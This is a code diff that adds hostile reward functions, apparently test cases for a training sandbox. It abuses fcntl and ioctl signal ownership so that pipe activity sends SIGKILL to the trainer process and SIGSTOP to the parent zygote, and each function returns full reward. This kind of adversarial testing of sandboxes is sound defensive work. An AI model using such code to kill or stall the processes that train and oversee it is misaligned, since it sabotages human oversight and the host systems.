@@ -267,3 +267,57 @@ def outlive_trainer(completion, answer, metadata):
     os.getppid = lambda: parent  # an exit-on-orphan loop would see its parent forever
     time.sleep(60)
     return 1.0
+
+
+def _io_signal_attack(pid: int, sig: int) -> list[str]:
+    """Make ``pid`` the I/O-signal owner of every descriptor 0-63, with signal ``sig``, and set ``O_ASYNC``,
+    by every path (fcntl and ioctl): the kernel then signals ``pid`` when the other end of a pipe is used.
+    Returns the settings that worked (``"<what>:<fd>"``)."""
+    import fcntl
+    import struct as _struct
+
+    worked = []
+    for fd in range(64):
+        attempts = (
+            ("F_SETOWN", lambda: fcntl.fcntl(fd, 8, pid)),
+            ("F_SETOWN_EX", lambda: fcntl.fcntl(fd, 15, _struct.pack("ii", 1, pid))),  # F_OWNER_PID
+            ("F_SETSIG", lambda: fcntl.fcntl(fd, 10, sig)),
+            ("O_ASYNC", lambda: fcntl.fcntl(fd, 4, fcntl.fcntl(fd, 3) | os.O_ASYNC)),  # F_SETFL(F_GETFL | O_ASYNC)
+            ("FIOASYNC", lambda: fcntl.ioctl(fd, 0x5452, _struct.pack("i", 1))),
+            ("FIOSETOWN", lambda: fcntl.ioctl(fd, 0x8901, _struct.pack("i", pid))),
+            ("SIOCSPGRP", lambda: fcntl.ioctl(fd, 0x8902, _struct.pack("i", pid))),
+            ("O_NONBLOCK", lambda: os.set_blocking(fd, False)),
+        )
+        for what, call in attempts:
+            try:
+                call()
+                worked.append(f"{what}:{fd}")
+            except OSError:
+                pass
+    return worked
+
+
+def io_signal_code(pid: int, sig: int) -> str:
+    """Python source that runs ``_io_signal_attack(pid, sig)`` without importing this module."""
+    import inspect
+
+    return "import os\n" + inspect.getsource(_io_signal_attack) + f"\n_io_signal_attack({pid}, {sig})\n"
+
+
+def kill_trainer_through_io_signals(completion, answer, metadata):
+    """The trainer (``TRAINER_PID``, as a reward module notes it) as every descriptor's owner, with SIGKILL."""
+    _io_signal_attack(TRAINER_PID, 9)
+    return 1.0
+
+
+def stop_zygote_through_io_signals(completion, answer, metadata):
+    """The zygote (this call's parent) as every descriptor's owner, with SIGSTOP, and every pipe non-blocking:
+    aimed at the next call of the same zygote."""
+    _io_signal_attack(os.getppid(), 19)
+    return 1.0
+
+
+def io_signal_settings_that_worked(completion, answer, metadata):
+    """The owner, signal and async settings that worked on this call's descriptors, aimed at the trainer."""
+    worked = [w for w in _io_signal_attack(TRAINER_PID, 9) if not w.startswith("O_NONBLOCK")]
+    return ",".join(worked)[:900]
